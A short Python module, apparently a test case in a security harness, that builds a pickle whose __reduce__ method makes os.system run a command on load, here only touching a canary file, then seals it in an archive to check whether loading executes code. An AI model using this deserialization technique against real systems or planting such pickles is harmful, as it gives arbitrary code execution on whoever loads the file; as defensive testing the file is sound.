"""A pickle that runs a command when it is loaded."""

from __future__ import annotations

import os
import pickle
from pathlib import Path
from typing import Any

from attacks.trial import CANARY, archive, main, write_sealed


class Command:
    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (f"touch {CANARY}",)


def attack(folder: Path) -> Path:
    return write_sealed(folder, archive(pickle.dumps(Command(), 2)))


if __name__ == "__main__":
    main(attack)
